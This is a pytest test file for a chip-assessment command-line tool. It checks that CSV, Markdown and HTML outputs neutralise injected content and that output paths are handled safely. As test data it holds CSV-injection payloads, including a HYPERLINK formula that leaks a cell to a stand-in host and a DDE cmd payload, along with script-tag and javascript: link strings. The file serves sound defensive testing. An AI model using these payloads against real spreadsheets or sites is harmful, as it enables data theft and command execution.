"""Outputs neutralised for their medium and written where the user said, or refused before any work (issue 17).

A user catalog names chips like spreadsheet formulas; a validation case makes the error overflow; a scenario puts
``<script>`` in every free-text field; ``--out`` and ``--patch`` point into a missing folder or at a folder.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from chipshift.assess import example_scenario_path

from .conftest import files_in, run

EXAMPLE_DIR = example_scenario_path().parent
SCRIPT = "<script>alert(1)</script>"

FORMULAS = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")': '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\n=1+1",
    "lab\r=1+1": "lab\n=1+1",  # a lone CR ends the row in a spreadsheet: written as a (quoted) line feed
}
"""Cells a spreadsheet runs as formulas (OWASP's CSV injection list), and what the CSV must hold instead."""

CHIP = """\
sources:
  - {{id: my-source, title: "My measurements"}}
chips:
  - id: chip-{index}
    name: {name}
    vendor: {name}
    designer_country: CN
    kind: datacenter-inference
    dense_tflops:
      bf16: {{value: 100, source: my-source, as_of: "2025", confidence: measured}}
    release_year: 2025
"""


def test_chips_list_csv_neutralises_formulas_from_a_user_catalog(tmp_path: Path) -> None:
    for index, name in enumerate(FORMULAS):
        text = CHIP.format(index=index, name=json.dumps(name))
        (tmp_path / f"chip{index}.yaml").write_text(text, encoding="utf-8")
    before = files_in(tmp_path)
    outcome = run("--catalog", tmp_path, "chips", "list", "--format", "csv")
    assert outcome.code == 0, outcome.stderr
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(outcome.stdout, newline=""))}
    for index, shown in enumerate(FORMULAS.values()):
        row = rows[f"chip-{index}"]
        assert row["name"] == row["vendor"] == shown, row
        assert row["bf16_tflops"] == "100.0"  # numbers are data: never quoted
    assert "\r" not in outcome.stdout
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows.values() for cell in row.values())
    assert files_in(tmp_path) == before
    listed = json.loads(run("--catalog", tmp_path, "chips", "list", "--json").stdout)
    assert {c["name"] for c in listed if c["id"].startswith("chip-")} == set(FORMULAS)  # JSON keeps the data as is


CASE = """\
  - id: {id}
    source: my-bench
    confidence: high
    hardware: {{chip: nvidia-h100-sxm, count: 1}}
    model: qwen3-8b
    precision: bf16
    phase: serving
    workload: {{dataset: random, input_tokens: 128, output_tokens: 16, num_prompts: 8}}
    measured: {{metric: serving_output_tokens_per_s, value: {value}}}
"""


def _strict_json(text: str) -> Any:
    def refuse(constant: str) -> None:
        raise AssertionError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


def test_validate_json_never_writes_nan_or_infinity(tmp_path: Path) -> None:
    """A measured figure of 5e-324 made the error infinite: ``Infinity`` in the JSON before, null and a reason now."""
    cases = tmp_path / "cases.yaml"
    cases.write_text(
        "version: 1\ncases:\n" + CASE.format(id="S-1", value=500) + CASE.format(id="S-2", value="5.0e-324")
    )
    outcome = run("validate", cases, "--json")
    assert outcome.code == 0, outcome.stderr
    report = _strict_json(outcome.stdout)
    good, tiny = report["cases"]
    assert isinstance(good["error"], float) and good["reason"] is None
    assert tiny["predicted"] == good["predicted"] and tiny["error"] is None
    assert "the error is not a finite number" in tiny["reason"]
    assert report["summary"]["predicted"] == 1 and report["summary"]["median_abs_error"] == abs(good["error"])
    table = run("validate", cases)
    assert table.code == 0 and "inf" not in table.stdout.lower() and "nan" not in table.stdout.lower()


@pytest.fixture(scope="module")
def hostile_scenario(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example with ``<script>`` in its name, a workload, a site, a target's source and a candidate's source."""
    text = example_scenario_path().read_text(encoding="utf-8")
    for old, new in [
        ('name: "Example:', f'name: "{SCRIPT} Example:'),
        ("  - id: chat\n", f'  - id: "chat{SCRIPT}"\n'),
        ("  - id: beijing-research\n", f'  - id: "beijing{SCRIPT}"\n'),
        ('source: "example assumption: supply"', f'source: "{SCRIPT} [x](javascript:alert(1))"'),
        ('source: "Shanghai, Mar 2024:', f'source: "{SCRIPT} Shanghai, Mar 2024:'),
        ("monte_carlo:\n  runs: 200", "monte_carlo:\n  runs: 4"),
    ]:
        assert old in text, old
        text = text.replace(old, new, 1)
    folder = tmp_path_factory.mktemp("scenario")
    path = folder / "scenario.yaml"
    path.write_text(text.replace("[example-repo]", f"[{EXAMPLE_DIR / 'example-repo'}]"), encoding="utf-8")
    (folder / "fleet.csv").write_bytes((EXAMPLE_DIR / "fleet.csv").read_bytes())
    return path


@pytest.fixture(scope="module")
def reports(hostile_scenario: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The hostile scenario's report in Markdown and HTML."""
    folder, texts = tmp_path_factory.mktemp("reports"), {}
    for fmt in ("markdown", "html"):
        report = folder / f"report.{fmt}"
        outcome = run("assess", hostile_scenario, "--format", fmt, "--out", report, "--no-monte-carlo", "-q")
        assert outcome.code == 0, outcome.stderr
        texts[fmt] = report.read_text(encoding="utf-8")
    return texts


@pytest.mark.parametrize("fmt", ["markdown", "html"])
def test_the_report_shows_injected_html_as_text(reports: dict[str, str], fmt: str) -> None:
    text = reports[fmt]
    assert "<script" not in text
    assert text.count("&lt;script&gt;") >= 4  # the title, the workload, the site and the sources, shown as text
    if fmt == "html":
        assert "default-src 'none'" in text


def test_the_markdown_report_shows_a_link_as_text(reports: dict[str, str]) -> None:
    assert "](javascript:" not in reports["markdown"].replace("\\](javascript:", "")


def test_a_report_into_a_missing_folder_makes_it(hostile_scenario: Path, tmp_path: Path) -> None:
    report = tmp_path / "new" / "deeper" / "report.json"
    outcome = run("assess", hostile_scenario, "--format", "json", "--out", report, "--no-monte-carlo", "-q")
    assert outcome.code == 0, outcome.stderr
    assert _strict_json(report.read_text(encoding="utf-8"))["title"].startswith(SCRIPT)
    assert files_in(tmp_path) == ["new", "new/deeper", "new/deeper/report.json"]  # no temporary file left


def test_a_report_onto_a_folder_or_under_a_file_is_refused_before_any_work(tmp_path: Path) -> None:
    (tmp_path / "plain").write_text("a file\n")
    before = files_in(tmp_path)
    run("assess", "--example", "--out", tmp_path, "-q").refused(str(tmp_path), "is a folder")
    under = tmp_path / "plain" / "report.html"
    run("assess", "--example", "--out", under, "-q").refused(str(under), "not a folder")
    assert files_in(tmp_path) == before and (tmp_path / "plain").read_text() == "a file\n"


CUDA = "import torch\n\nmodel = Net().cuda()\n"


def test_a_patch_into_a_missing_folder_makes_it_and_touches_no_source(tmp_path: Path) -> None:
    script = tmp_path / "train.py"
    script.write_text(CUDA)
    patch = tmp_path / "out" / "port.patch"
    outcome = run("migrate", script, "--patch", patch)
    assert outcome.code == 0, outcome.stderr
    assert "+model = Net().to(device)" in patch.read_text() and script.read_text() == CUDA
    assert files_in(tmp_path) == ["out", "out/port.patch", "train.py"]


def test_a_patch_onto_a_folder_or_under_a_file_is_refused(tmp_path: Path) -> None:
    script = tmp_path / "train.py"
    script.write_text(CUDA)
    before = files_in(tmp_path)
    run("migrate", script, "--patch", tmp_path).refused(str(tmp_path), "is a folder")
    under = script / "port.patch"
    run("migrate", script, "--patch", under).refused(str(under), "not a folder")
    assert files_in(tmp_path) == before and script.read_text() == CUDA
